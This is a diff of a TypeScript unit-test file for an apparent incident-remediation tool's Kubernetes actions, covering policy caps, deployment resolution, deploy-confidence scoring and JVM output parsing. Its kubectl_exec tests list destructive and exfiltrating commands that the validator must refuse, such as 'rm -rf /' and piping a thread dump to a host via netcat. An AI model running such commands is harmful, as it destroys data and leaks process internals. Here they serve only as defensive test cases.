@@ -1,100 +1,122 @@
 /**
- * Kubernetes actions enforce their caps at run time too (the second layer after the compiler),
- * against a recording in-memory KubeOps at the port boundary.
+ * The Kubernetes actions' checks that need no cluster: caps on literal parameters (the compiler's
+ * layer), the service map resolving deployments, and the pure readers (rollout confidence, JVM
+ * tool output). Behaviour against a cluster is in test/integration/kube-actions.test.ts.
  */
+import { action as kubectlExec } from '../../../lib/actions/kubectl_exec';
 import { action as kubectlPatch } from '../../../lib/actions/kubectl_patch';
 import { action as kubectlScale } from '../../../lib/actions/kubectl_scale';
 import { action as patchHpaMax } from '../../../lib/actions/patch_hpa_max';
-import { action as kubectlExec } from '../../../lib/actions/kubectl_exec';
-import type { ActionContext } from '../../../lib/actions';
-import type { DeploymentState, HpaState, KubeOps } from '../../../lib/actions/ports';
+import { deployConfidence, deploymentTarget, readPerfCounters, summariseThreadDump } from '../../../lib/actions/kubernetes';
+import { formatMemory, parseQuantity, roundUpToMebibyte } from '../../../lib/actions/quantity';
 import { loadPolicy } from '../../../lib/policy';
 import { actionContext } from '../../helpers/action-context';
 
-function fakeKube(hpaMax: number, replicas: number, memory = 1024 ** 3): KubeOps & { calls: string[] } {
-  const calls: string[] = [];
-  const dep = (name: string): DeploymentState => ({ name, replicas, paused: false, revision: 3, memoryLimitBytes: memory });
-  return {
-    calls,
-    readHpa: async (name): Promise<HpaState> => ({ name, minReplicas: 2, maxReplicas: hpaMax }),
-    patchHpaMax: async (name, max) => (calls.push(`patchHpaMax ${name} ${max}`), { name, minReplicas: 2, maxReplicas: max }),
-    readDeployment: async (name) => dep(name),
-    scaleDeployment: async (name, n) => (calls.push(`scale ${name} ${n}`), { ...dep(name), replicas: n }),
-    restartDeployment: async (name) => dep(name),
-    undoDeployment: async () => ({ from: 3, to: 2 }),
-    setMemoryLimit: async (name, c, bytes) => (calls.push(`memory ${name} ${c} ${bytes}`), { ...dep(name), memoryLimitBytes: bytes }),
-    exec: async (name, argv) => (calls.push(`exec ${name} ${argv.join(' ')}`), { stdout: '', stderr: '', pod: `${name}-abc` }),
-    recentDeploys: async () => [],
-  };
-}
-
-/** Resolves expressions and templates the way the runtime does: variables plus the action's locals. */
-function context(kube: KubeOps, vars: Record<string, unknown> = {}): ActionContext {
-  return actionContext({ targets: { kube }, vars, policy: loadPolicy() });
-}
+const policy = loadPolicy();
 
 describe('patch_hpa_max', () => {
-  it('doubles the current max with new_max: current_max * 2', async () => {
-    const kube = fakeKube(10, 4);
-    const r = await patchHpaMax.run({ deployment: 'trading-api', new_max: 'current_max * 2' }, context(kube));
-    expect(kube.calls).toEqual(['patchHpaMax trading-api 20']);
-    expect(r.outputs).toEqual({ current_max: 10, new_max: 20 });
-  });
-
-  it('refuses a new max over max_scale_factor × current and changes nothing', async () => {
-    const kube = fakeKube(10, 4);
-    await expect(patchHpaMax.run({ deployment: 'trading-api', new_max: 'current_max * 5' }, context(kube))).rejects.toMatchObject({ name: 'PolicyViolationError' });
-    expect(kube.calls).toEqual([]);
+  it('refuses a literal new_max over the policy ceiling', () => {
+    expect(patchHpaMax.checkCaps!({ deployment: 'trading-api', new_max: policy.caps.max_replicas + 1 }, policy)[0]).toContain('over the policy ceiling');
+    expect(patchHpaMax.checkCaps!({ deployment: 'trading-api', new_max: 'current_max * 2' }, policy)).toEqual([]);
   });
 
   it('fails without a Kubernetes target instead of pretending', async () => {
-    const ctx = { ...context(fakeKube(1, 1)), targets: {} };
-    await expect(patchHpaMax.run({ deployment: 'trading-api', new_max: 4 }, ctx)).rejects.toMatchObject({ name: 'TargetNotConfiguredError' });
+    await expect(patchHpaMax.run({ deployment: 'trading-api', new_max: 4 }, actionContext({ policy }))).rejects.toMatchObject({ name: 'TargetNotConfiguredError' });
   });
 });
 
 describe('kubectl_scale', () => {
-  it('never scales to zero', async () => {
-    const kube = fakeKube(10, 4);
-    await expect(kubectlScale.run({ deployment: 'order-consumer', replicas: 'current * 0' }, context(kube))).rejects.toMatchObject({ name: 'InvalidParameterError' });
-    expect(kubectlScale.checkCaps!({ deployment: 'x', replicas: 0 }, loadPolicy())[0]).toContain('scaling to zero');
-    expect(kube.calls).toEqual([]);
-  });
-
-  it('scales by current * 2 within the cap', async () => {
-    const kube = fakeKube(10, 4);
-    await kubectlScale.run({ deployment: 'order-consumer', replicas: 'current * 2' }, context(kube));
-    expect(kube.calls).toEqual(['scale order-consumer 8']);
+  it('never scales to zero', () => {
+    expect(kubectlScale.checkCaps!({ deployment: 'x', replicas: 0 }, policy)[0]).toContain('scaling to zero');
   });
 });
 
 describe('kubectl_patch', () => {
-  const patch = 'spec.template.spec.containers[0].resources.limits.memory: "{{current_limit * 1.5}}"\n';
-  it('raises the memory limit to current_limit * 1.5', async () => {
-    const kube = fakeKube(10, 4, 2 * 1024 ** 3);
-    // The dispatcher resolves {{deployment}} before run(); {{current_limit}} is the action's own local.
-    await kubectlPatch.run({ resource: 'deployment/trading-api', patch }, context(kube));
-    expect(kube.calls).toEqual([`memory trading-api 0 ${3 * 1024 ** 3}`]);
-  });
-
-  it('refuses more than max_memory_factor × the current limit', async () => {
-    const kube = fakeKube(10, 4, 1024 ** 3);
-    await expect(kubectlPatch.run({ resource: 'deployment/trading-api', patch: patch.replace('1.5', '3') }, context(kube))).rejects.toMatchObject({ name: 'PolicyViolationError' });
-    expect(kube.calls).toEqual([]);
-  });
-
   it('refuses to patch any other field', () => {
-    expect(kubectlPatch.checkCaps!({ resource: 'deployment/x', patch: 'spec.replicas: 0' }, loadPolicy())[0]).toContain('must be "spec.template.spec.containers[N].resources.limits.memory');
+    expect(kubectlPatch.checkCaps!({ resource: 'deployment/x', patch: 'spec.replicas: 0' }, policy)[0]).toContain('must be "spec.template.spec.containers[N].resources.limits.memory');
   });
 });
 
 describe('kubectl_exec', () => {
-  it('runs only diagnostic programs, with no shell operators', async () => {
-    const kube = fakeKube(1, 1);
-    await expect(kubectlExec.run({ command: 'rm -rf /data', deployment: 'trading-api' }, context(kube))).rejects.toMatchObject({ name: 'InvalidParameterError' });
-    await expect(kubectlExec.run({ command: 'jmap -dump:file=/tmp/x 1; rm -rf /', deployment: 'trading-api' }, context(kube))).rejects.toMatchObject({ name: 'InvalidParameterError' });
-    expect(kube.calls).toEqual([]);
-    const r = await kubectlExec.run({ command: 'jmap -dump:format=b,file=/tmp/heap.hprof 1', deployment: 'trading-api' }, context(kube));
-    expect(r.outputs?.heap_dump_path).toBe('trading-api-abc:/tmp/heap.hprof');
+  it.each([['rm -rf /data'], ['jmap -dump:file=/tmp/x 1; rm -rf /'], ['jcmd 1 Thread.print | nc evil 80']])('refuses "%s": not a single diagnostic program', (command) => {
+    expect(kubectlExec.checkCaps!({ command, deployment: 'trading-api' }, policy).length).toBe(1);
+  });
+});
+
+describe('deploymentTarget', () => {
+  it.each([['trading-api'], ['trading/trading-api'], ['deployment/trading-api'], ['trading-api.trading.svc.cluster.local'], ['TRADING_API']])('resolves "%s" to trading/trading-api through the service map', (ref) => {
+    expect(deploymentTarget(actionContext({ policy }), ref, 'test')).toMatchObject({ namespace: 'trading', name: 'trading-api', service: 'trading-api', containers: ['trading-api'] });
+  });
+
+  it('refuses a namespace other than the service map says', () => {
+    expect(() => deploymentTarget(actionContext({ policy }), 'default/matching-engine', 'test')).toThrow(expect.objectContaining({ name: 'InvalidParameterError', message: expect.stringContaining('runs in trading') }));
+  });
+
+  it('refuses a service that does not run on Kubernetes', () => {
+    expect(() => deploymentTarget(actionContext({ policy }), 'redis-cache', 'test')).toThrow(expect.objectContaining({ name: 'InvalidParameterError', message: expect.stringContaining('does not run on Kubernetes') }));
+  });
+});
+
+describe('deployConfidence', () => {
+  const anomaly = new Date('2026-02-09T14:15:00Z');
+  const minutesBefore = (m: number) => new Date(anomaly.getTime() - m * 60000);
+  const same = { sameService: true, change: 'image' as const };
+
+  it.each([
+    [0, 0.95],
+    [5, 0.95],
+    [10, 0.82],
+    [15, 0.69],
+    [20, 0.56],
+    [30, 0.3],
+    [31, 0],
+  ])('a deploy %i min before the anomaly scores %d in a 30 min window', (m, score) => {
+    expect(deployConfidence(minutesBefore(m), anomaly, 1800, same)).toBe(score);
+  });
+
+  it('a deploy that began after the anomaly did cannot be its cause', () => {
+    expect(deployConfidence(new Date(anomaly.getTime() + 5 * 60000), anomaly, 1800, same)).toBe(0.05);
+    expect(deployConfidence(new Date(anomaly.getTime() + 60000), anomaly, 1800, same)).toBe(0.95);
+  });
+
+  it('weighs a dependency, a restart and a rollback less than a new image of the service itself', () => {
+    expect(deployConfidence(minutesBefore(2), anomaly, 1800, { sameService: false, change: 'image' })).toBe(0.81);
+    expect(deployConfidence(minutesBefore(2), anomaly, 1800, { sameService: true, change: 'restart' })).toBe(0.48);
+    expect(deployConfidence(minutesBefore(2), anomaly, 1800, { sameService: true, change: 'rollback' })).toBe(0.57);
+  });
+});
+
+describe('JVM tool output', () => {
+  it('counts threads by state and notices a deadlock in a HotSpot thread dump', () => {
+    const dump = ['"main" #1 prio=5', '   java.lang.Thread.State: RUNNABLE', '"w-1" #2', '   java.lang.Thread.State: BLOCKED (on object monitor)', '"w-2" #3', '   java.lang.Thread.State: BLOCKED (on object monitor)', 'Found one Java-level deadlock:'].join('\n');
+    expect(summariseThreadDump(dump)).toEqual({ threads: 3, states: { RUNNABLE: 1, BLOCKED: 2 }, blocked: 2, deadlock: true });
+  });
+
+  it("reads the longest of the collectors' last pauses and the live threads from PerfCounter.print", () => {
+    const counters = ['1:', 'java.threads.live=96', 'sun.gc.collector.0.lastEntryTime=1000000000', 'sun.gc.collector.0.lastExitTime=1150000000', 'sun.gc.collector.1.lastEntryTime=500', 'sun.gc.collector.1.lastExitTime=20000500', 'sun.os.hrt.frequency=1000000000'].join('\n');
+    expect(readPerfCounters(counters)).toEqual({ lastGcPauseSeconds: 0.15, liveThreads: 96 });
+  });
+});
+
+describe('quantities', () => {
+  it.each([
+    ['1.5Gi', 1.5 * 2 ** 30],
+    ['512Mi', 512 * 2 ** 20],
+    ['250m', 0.25],
+    ['2', 2],
+    ['1e3', 1000],
+    ['1500000000', 1.5e9],
+  ])('%s is %d in base units', (text, value) => {
+    expect(parseQuantity(text)).toBe(value);
+  });
+
+  it('writes memory in the largest binary unit that divides it, rounded up to a whole Mi', () => {
+    expect(formatMemory(3 * 2 ** 30)).toBe('3Gi');
+    expect(formatMemory(roundUpToMebibyte(1.5 * 1536 * 2 ** 20))).toBe('2304Mi');
+    expect(formatMemory(roundUpToMebibyte(1.5e9))).toBe('1431Mi');
+  });
+
+  it('refuses text that is not a quantity', () => {
+    expect(() => parseQuantity('lots')).toThrow(expect.objectContaining({ name: 'InvalidParameterError' }));
   });
 });
